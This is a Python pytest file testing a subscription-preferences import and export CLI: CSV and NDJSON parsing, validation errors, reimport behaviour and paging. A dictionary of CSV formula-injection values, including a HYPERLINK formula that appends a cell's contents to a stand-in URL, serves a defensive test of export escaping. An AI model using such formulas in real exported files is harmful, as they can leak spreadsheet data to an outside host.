# SPDX-License-Identifier: Apache-2.0
"""``engage subscriptions import`` and ``export``."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from click.testing import Result

from engage.api import (
    EventFilter,
    Kind,
    StorageUnavailable,
    Subject,
    SubscriptionChange,
)
from engage.cli.instance import now
from engage.reading.scans import PAGE
from engage.store.facade import Storage
from engage.testing.factories import TIME, event, identify
from engage_plugins.sqlite.store import SqliteStorage
from support.commands import run
from support.exports import on_store
from support.sqlite import config_file

DAY = "2025-06-01"
#: Says that a server key sent an event.
VOUCHED = {"engage": {"trusted": ["email"]}}


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """Make a config with the groups ``news`` and ``ads``, and a store with some people."""
    path = config_file(tmp_path)
    groups = '[[workspaces.subscription_groups]]\nid = "ads"\nchannel = "email"\ntype = "opt_out"\n'
    head, _, rest = path.read_text().partition('[[workspaces]]\nid = "other"')
    path.write_text(f'{head}{groups}[[workspaces]]\nid = "other"{rest}')
    people = [
        identify("1", "ann", traits={"email": "a@b.c"}, context=VOUCHED),
        identify("2", "bob", traits={"email": "x@y.z"}),
        event("3", type="identify", anonymous_id="v", traits={"email": "A@b.c"}),
        event("4", type="identify", anonymous_id="w"),
        event("5", user_id="bob", anonymous_id="w"),
    ]
    on_store(path, lambda store: store.write(people))
    return path


def load(config: Path, text: str | bytes, *options: str) -> Result:
    """Import a file, and check that the command says the same of it with ``--dry-run`` before."""
    file = config.parent / "choices"
    file.write_bytes(text.encode() if isinstance(text, str) else text)
    before = exported(config)
    arguments = ("subscriptions", "import", "--config", config, "--workspace", "acme", file)
    dry = run(*arguments, "--dry-run", *options)
    assert exported(config) == before
    result = run(*arguments, *options)
    assert (dry.exit_code, dry.stderr) == (result.exit_code, result.stderr)
    return result


def exported(config: Path, *options: str) -> list[dict[str, Any]]:
    """Return what people chose."""
    result = run("subscriptions", "export", "--config", config, *options)
    assert (result.exit_code, result.stderr) == (0, "")
    return [json.loads(line) for line in result.stdout.splitlines()]


def choices(config: Path) -> set[tuple[Any, ...]]:
    """Return whose choice is what."""
    names = ("userId", "anonymousId", "groupId", "subscribed")
    return {tuple(one[name] for name in names) for one in exported(config)}


def history(config: Path) -> Sequence[Any]:
    async def read(store: Storage) -> Sequence[Any]:
        return (await store.history("acme", None, after=None, limit=10_000)).items

    return on_store(config, read)


def change(config: Path, user_id: str, at: int, *, subscribed: bool) -> None:
    """Choose as with a signed link."""
    made = SubscriptionChange(
        id=f"{user_id} {at}",
        workspace_id="acme",
        subject=Subject(Kind.USER, user_id),
        choices={"news": subscribed},
        at=at,
        how="api",
    )
    on_store(config, lambda store: store.apply(made))


def test_csv_is_imported(config: Path) -> None:
    """As a spreadsheet writes it: with a byte order mark, CRLF, quotes and capitals."""
    text = (
        "\ufeffuserId, anonymousId,groupId,subscribed,updatedAt,how\r\n"
        f'ann,,news,TRUE,{DAY},"old, ""tool"""\r\n'
        ",w,news,0,1750000000,\r\n"
        "\r\n"
        "007,,ads,false,2025-06-01 10:00:00,\r\n"
        '"two\r\nlines",,ads,1,,\r\n'
    )
    result = load(config, text)
    assert (result.exit_code, result.stdout) == (0, "4 choices imported\n")
    assert choices(config) == {
        ("ann", None, "news", True),
        (None, "w", "news", False),
        ("007", None, "ads", False),
        ("two\r\nlines", None, "ads", True),
    }
    times = {one["userId"] or one["anonymousId"]: one["updatedAt"] for one in exported(config)}
    assert times["ann"] == "2025-06-01T00:00:00.000Z"
    assert times["w"] == "2025-06-15T15:06:40.000Z"
    assert times["007"] == "2025-06-01T10:00:00.000Z"
    assert [(one.subject.id, one.how) for one in history(config)] == [
        ("ann", 'old, "tool"'),
        ("w", "import"),
        ("007", "import"),
        ("two\r\nlines", "import"),
    ]


def test_ndjson_is_imported_from_standard_input(config: Path) -> None:
    rows = [
        {"userId": 7, "groupId": "news", "subscribed": True, "updatedAt": 1_750_000_000_000},
        {"userId": "ann", "anonymousId": None, "groupId": "ads", "subscribed": False},
    ]
    text = "\n\n".join(map(json.dumps, rows))
    result = run(
        *("subscriptions", "import", "--config", config, "--workspace", "acme", "-"), text=text
    )
    assert (result.exit_code, result.output) == (0, "2 choices imported\n")
    assert choices(config) == {("7", None, "news", True), ("ann", None, "ads", False)}


def test_an_identifier_is_the_user_whose_it_surely_is(config: Path) -> None:
    head = "identifierKey,identifier,groupId,subscribed\n"
    result = load(config, head + "email, a@B.c ,news,true\n")
    assert (result.exit_code, result.stdout) == (0, "1 choice imported\n")
    assert choices(config) == {("ann", None, "news", True)}
    result = load(config, head + "email,x@y.z,news,true\n")
    assert "surely belongs to no user, and 1 users and visitors have it" in result.stderr
    # Nobody can say which of two users it is.
    cat = identify("6", "cat", traits={"email": "A@b.c"}, context=VOUCHED)
    on_store(config, lambda store: store.write([cat]))
    result = load(config, head + "email,a@b.c,ads,true\n")
    assert "surely belongs to 2 users, and 3 users and visitors have it" in result.stderr
    assert (result.exit_code, choices(config)) == (1, {("ann", None, "news", True)})


def test_with_all_an_identifier_is_everybody_who_has_it(config: Path) -> None:
    text = "identifierKey,identifier,groupId,subscribed\nemail, a@B.c ,news,true\n"
    (config.parent / "choices").write_text(text)
    import_all = ["subscriptions", "import", "--config", config, "--workspace", "acme", "--all"]
    result = run(*import_all, str(config.parent / "choices"))
    assert (result.exit_code, choices(config)) == (2, set())
    assert "--all needs --yes when there is no terminal" in result.stderr
    result = load(config, text, "--all", "--yes")
    assert (result.exit_code, result.stdout) == (0, "2 choices imported\n")
    assert choices(config) == {("ann", None, "news", True), (None, "v", "news", True)}


def test_all_says_how_many_before_it_asks(config: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = config.parent / "choices"
    file.write_text("identifierKey,identifier,groupId,subscribed\nemail,a@b.c,news,true\n")
    monkeypatch.setattr("click.testing._NamedTextIOWrapper.isatty", lambda _: True, raising=False)
    import_all = ["subscriptions", "import", "--config", config, "--workspace", "acme", "--all"]
    result = run(*import_all, str(file), text="n\n")
    assert "Import 1 row as 2 choices? [y/N]" in result.stderr
    assert (result.exit_code, choices(config)) == (1, set())
    run(*import_all, str(file), text="y\n")
    assert len(choices(config)) == 2


def test_a_choice_of_both_ids_is_that_of_both(config: Path) -> None:
    load(config, f"userId,anonymousId,groupId,subscribed,updatedAt\nann,v,news,false,{DAY}\n")
    assert choices(config) == {("ann", None, "news", False), (None, "v", "news", False)}


def test_the_same_file_again_has_no_effect(config: Path) -> None:
    text = f"userId,groupId,subscribed,updatedAt\nann,news,true,{DAY}\nbob,news,true,\n"
    load(config, text)
    before = exported(config)
    assert load(config, text).stdout == "0 choices imported, 2 as before\n"
    assert (exported(config), len(history(config))) == (before, 2)
    more = text + f"cat,news,false,{DAY}\ncat,news,true,2025-05-01\n"
    result = load(config, more)
    assert result.stdout == "1 choice imported, 2 as before, 1 later choice kept\n"
    # Nor after they have changed their minds.
    for user in ("ann", "bob"):
        change(config, user, TIME + 10**12, subscribed=False)
    assert load(config, text).stdout == "0 choices imported, 2 later choices kept\n"
    assert {one["subscribed"] for one in exported(config)} == {False}
    assert len(history(config)) == 5


def test_a_later_choice_is_kept(config: Path) -> None:
    """Of the same user or visitor, in whatever order the rows are."""
    change(config, "ann", 1_750_000_000_000, subscribed=False)
    change(config, "bob", 1_750_000_000_000, subscribed=False)
    rows = (
        "ann,news,true,1749999999999",
        "bob,news,true,1749999999999",
        "cat,news,true,2025-06-02",
        "cat,news,false,2025-06-01",
    )
    result = load(config, "userId,groupId,subscribed,updatedAt\n" + "\n".join(rows))
    assert result.stdout == "1 choice imported, 3 later choices kept\n"
    assert choices(config) == {
        ("ann", None, "news", False),
        ("bob", None, "news", False),
        ("cat", None, "news", True),
    }
    # Without a time, it is made now.
    assert load(config, "userId,groupId,subscribed\nann,news,true\n").exit_code == 0
    assert ("ann", None, "news", True) in choices(config)
    assert [one.user_id for one in history(config)] == ["ann", "bob", "cat", "ann"]


HEAD = b"workspaceId,userId,identifierKey,identifier,groupId,subscribed,updatedAt\n"


WRONG_ROWS = [
    (b",u,,,nws,true,", "groupId: is not a subscription group of the workspace"),
    (b",,,,news,true,", "a userId, an anonymousId, or an identifierKey with an identifier is"),
    (b",,email,,news,true,", "a userId, an anonymousId, or an identifierKey with an"),
    (b"other,u,,,news,true,", "workspaceId: is not acme"),
    (b",u,,,news,maybe,", 'subscribed: must be true or false, not "maybe"'),
    (b",u,,,news,,", "subscribed: is required"),
    (b",u,,,news,true,2099-01-01", "updatedAt: must be between 1970 and now"),
    (b",u,,,news,true,1969-12-31", "updatedAt: must be between 1970 and now"),
    (b",u,,,news,true,2025-02-30", "updatedAt: must be an existing time"),
    (b",u,,,news,true,yesterday", "updatedAt: "),
    (b", ,,,news,true,", "userId: must not be blank"),
    (b"," + b"u" * 513 + b",,,news,true,", "userId: is too long (513 characters"),
    (b",,plan,pro,news,true,", "identifierKey: is not in subscription_identifiers"),
    (b",,email,no@b.c,news,true,", "identifier: belongs to no user and no visitor"),
    (b",,email,\xe4,news,true,", "is not UTF-8"),
    (b",u,news,true", "has 4 fields, and the first line has 7"),
]


def test_a_wrong_row_is_named_and_the_others_are_imported(config: Path) -> None:
    good = b',"ann",,,news,true,\n\n'
    wrong = b"".join(row + b"\n" for row, _ in WRONG_ROWS)
    result = load(config, HEAD + good + wrong + good.replace(b"ann", b"bob"))
    assert (result.exit_code, result.stdout) == (1, "2 choices imported\n")
    *lines, last = result.stderr.splitlines()
    for number, (line, (_, message)) in enumerate(zip(lines, WRONG_ROWS, strict=True), 4):
        assert line.startswith(f"engage: line {number}: {message}")
    assert last == f"engage: {len(WRONG_ROWS)} of {len(WRONG_ROWS) + 2} rows refused"
    assert {choice[0] for choice in choices(config)} == {"ann", "bob"}


WRONG_LINES = [
    ("[1]", "must be a JSON object"),
    ("{", "is not JSON: "),
    ('{"userId": "u", "group": "news"}', '"group" is unknown; there are workspaceId, userId'),
    ('{"userId": 1.0, "groupId": "news", "subscribed": true}', "userId: must be a string or"),
    ('{"userId": "u", "groupId": "news", "subscribed": 1}', "subscribed: must be true or"),
    (
        '{"userId": "u", "groupId": "news", "subscribed": true, "updatedAt": "1750000000"}',
        "updatedAt: ",
    ),
    (
        '{"userId": "u", "groupId": "news", "subscribed": true, "how": ""}',
        "how: must have at least 1 characters",
    ),
]


def test_a_wrong_line_of_ndjson_is_named(config: Path) -> None:
    good = '{"userId": "ann", "groupId": "news", "subscribed": true}\n'
    wrong = "".join(line + "\n" for line, _ in WRONG_LINES)
    result = load(config, good + wrong + good.replace("ann", "bob"))
    lines = result.stderr.splitlines()[:-1]
    for number, (line, (_, message)) in enumerate(zip(lines, WRONG_LINES, strict=True), 2):
        assert line.startswith(f"engage: line {number}: {message}")
    assert {choice[0] for choice in choices(config)} == {"ann", "bob"}


def test_a_file_that_cannot_be_read_is_refused(config: Path) -> None:
    for head, message in (
        ("", "line 1: there is no column groupId, only nothing"),
        ("userId,groupId,subscribed,date\n", 'line 1: "date" is unknown; there are workspaceId'),
        ("\n \r\n", "line 3: there is no column groupId, only nothing"),
        ("userId,groupId,subscribed\ru,news,true\r", "line 1: new-line character seen"),
        ('"userId" , "groupId"\nu,news\n', "line 1: ',' expected after '\"'; the rest of the file"),
        ('"userId,groupId,subscribed\nu,news,true\n', "line 1: unexpected end of data; the rest"),
        (f"{'x' * 131_073},groupId\n", "line 1: field larger than field limit (131072); the rest"),
        ('[{"userId":"u"}]', "line 1: begins a JSON array; write each object on its own line"),
        ("\n[\n", "line 2: begins a JSON array; write each object on its own line"),
        ("userId,groupId\n".encode("utf-16"), "line 1: is not UTF-8; save the file as UTF-8"),
        ("userId,groupId\n".encode("utf-16-le"), "line 1: is not UTF-8; save the file as UTF-8"),
        ("z\xfcri,groupId\n".encode("latin-1"), "line 1: is not UTF-8; save the file as UTF-8"),
        (
            "userId;groupId;subscribed\n",
            "line 1: there is no column groupId, only userId;groupId;subscribed; commas separate",
        ),
    ):
        result = load(config, head)
        assert (result.exit_code, result.stdout) == (1, "")
        assert result.stderr.startswith(f"engage: {message}")
        assert len(result.stderr.splitlines()) == 1
    # A quotation mark is missing: nobody knows where the next row begins.
    result = load(config, 'userId,groupId,subscribed\nann,news,true\n"u,news,true\nbob,news,true\n')
    assert "line 3: unexpected end of data; the rest of the file was not read" in result.stderr
    assert {choice[0] for choice in choices(config)} == {"ann"}
    assert run("subscriptions", "import", "--config", config, "none.csv").exit_code == 2
    result = run("subscriptions", "import", "--config", config, "-", text="")
    assert result.stderr == "engage: choose one with --workspace: acme, other\n"


@pytest.mark.parametrize("text", ["\n\r\n", "\ufeff\n\n"])
def test_empty_lines_may_come_first(config: Path, text: str) -> None:
    rows = f"{text}userId,groupId,subscribed\nann,news,true\nbob,news,perhaps\n"
    result = load(config, rows)
    assert result.stderr.startswith("engage: line 5: subscribed: ")
    assert result.stdout == "1 choice imported\n"
    lines = f'{text}{{"userId":"cat","groupId":"news","subscribed":true}}\n[1]\n'
    result = load(config, lines)
    assert result.stderr.startswith("engage: line 4: must be a JSON object")
    assert result.stdout == "1 choice imported\n"


#: Ids, and how they begin in CSV: a spreadsheet runs what looks like a formula.
CELLS = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://a.example/?"&A1,"open")': "'=HYPERLINK(",
    "@SUM(A1)": "'@SUM(A1)",
    "\tx": "'\tx",
    "\rx": "'\rx",
    "+x": "'+x",
    "-x": "'-x",
    "-1+1": "'-1+1",
    "+1+1": "'+1+1",
    "-": "'-",
    "'": "''",
    "'x": "''x",
    "'=x": "''=x",
    "''": "'''",
    "+49 (30) 123-45.6": "+49 (30) 123-45.6",
    "+4930123": "+4930123",
    "-5": "-5",
    "-1.5e-7": "-1.5e-7",
    "x=1": "x=1",
    "a@b.c": "a@b.c",
}


def test_a_spreadsheet_runs_nothing_of_an_export(config: Path, tmp_path: Path) -> None:
    for number, name in enumerate(CELLS):
        change(config, name, TIME + number, subscribed=True)
    text = run("subscriptions", "export", "--config", config, "--format", "csv").stdout
    cells = [row["userId"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert len(cells) == len(CELLS)
    for cell, beginning in zip(cells, CELLS.values(), strict=True):
        assert cell.startswith(beginning)
    fresh = tmp_path / "fresh.toml"
    fresh.write_text(config.read_text().replace("engage.db", "fresh.db"))

    on_store(fresh, lambda store: store.check())
    assert load(fresh, text).exit_code == 0
    assert {one["userId"] for one in exported(fresh)} == CELLS.keys()


def test_an_export_offers_nothing_that_it_refuses() -> None:
    shown = run("subscriptions", "export", "--help").stdout
    assert "--format" in shown
    for option in ("--type", "--address", "--visitor", "--cursor-file"):
        assert option not in shown


@pytest.mark.parametrize("form", ["csv", "ndjson"])
def test_an_export_is_imported_as_the_same_state(config: Path, tmp_path: Path, form: str) -> None:
    change(config, "bob", 1_750_000_000_000, subscribed=True)
    change(config, "w", 1_750_000_000_001, subscribed=False)
    change(config, "v", 1_750_000_000_002, subscribed=True)
    change(config, '=a,"b"\n', 1_750_000_000_003, subscribed=True)
    arguments = ("subscriptions", "export", "--config", config, "--format", form)
    text = run(*arguments).stdout
    fresh = tmp_path / "fresh.toml"
    fresh.write_text(config.read_text().replace("engage.db", "fresh.db"))
    found = on_store(config, lambda store: store.scan(EventFilter(), after=None, limit=100))
    on_store(fresh, lambda store: store.write(found.items))
    assert load(fresh, text).exit_code == 0
    assert sorted(map(str, exported(fresh))) == sorted(map(str, exported(config)))
    # An export that continues another has no second line of names.
    first = run(*arguments, "--limit", "2").stdout.splitlines()
    assert len(first) == (3 if form == "csv" else 2)
    rest = run(*arguments, "--after", "[2]").stdout
    assert "workspaceId,userId" not in rest


def test_only_subscriptions_are_exported_as_csv(config: Path) -> None:
    result = run("export", "users", "--config", config, "--format", "csv")
    assert result.exit_code == 2
    assert "--format csv does not apply to users." in result.stderr


def test_many_rows_are_imported_in_pages(config: Path) -> None:
    """A store that fails in between: the command names the line, and can be run again."""
    rows = [f"u{number % 700},{('news', 'ads')[number % 2]},true" for number in range(3 * PAGE)]
    text = "userId,groupId,subscribed\n" + "\n".join(rows)
    sizes: list[int] = []

    apply_all = SqliteStorage.apply_all

    async def failing(self: Any, changes: Sequence[Any]) -> Any:
        sizes.append(len(changes))
        if len(sizes) == 2:
            raise StorageUnavailable("busy")
        return await apply_all(self, changes)

    with mock.patch.object(SqliteStorage, "apply_all", failing):
        result = run(
            *("subscriptions", "import", "--config", config, "--workspace", "acme", "-"), text=text
        )
    assert sizes == [PAGE, PAGE]
    assert result.stderr == f"engage: busy; imported up to line {PAGE + 1}, run the command again\n"
    assert load(config, text).stdout == f"200 choices imported, {3 * PAGE - 200} as before\n"
    assert len(exported(config)) == 700
    assert len(history(config)) == 700


def test_an_unsubscription_by_an_address_is_an_objection(config: Path) -> None:
    """Whether or not somebody has the address; a row that was undone since is none."""
    rows = (
        "identifierKey,identifier,groupId,subscribed,updatedAt,how\n"
        "email,a@b.c,news,0,,\nemail,New@b.c,news,0,2025-06-01,form\nemail,a@b.c,ads,1,,\n"
    )
    before = now()
    assert load(config, rows).stdout == "2 choices imported, 2 objections of addresses\n"

    def suppressed() -> set[tuple[str, str, str, int]]:
        async def read(store: Storage) -> set[tuple[str, str, str, int]]:
            wanted = [("email", "a@b.c"), ("email", "new@b.c")]
            found = await store.suppressions("acme", wanted)
            assert {one.reason for one in found} <= {"objection"}
            return {(one.address, one.group_id, one.how, min(one.at, before)) for one in found}

        return on_store(config, read)

    dated = ("new@b.c", "news", "form", 1_748_736_000_000)
    assert suppressed() == {("a@b.c", "news", "import", before), dated}
    on_store(config, lambda store: store.erase_suppressions("acme", [("email", "a@b.c")]))
    change(config, "ann", TIME * 2, subscribed=True)
    again = load(config, rows).stdout
    assert (
        again == "0 choices imported, 1 as before, 1 later choice kept, 1 objection of addresses\n"
    )
    assert suppressed() == {dated}
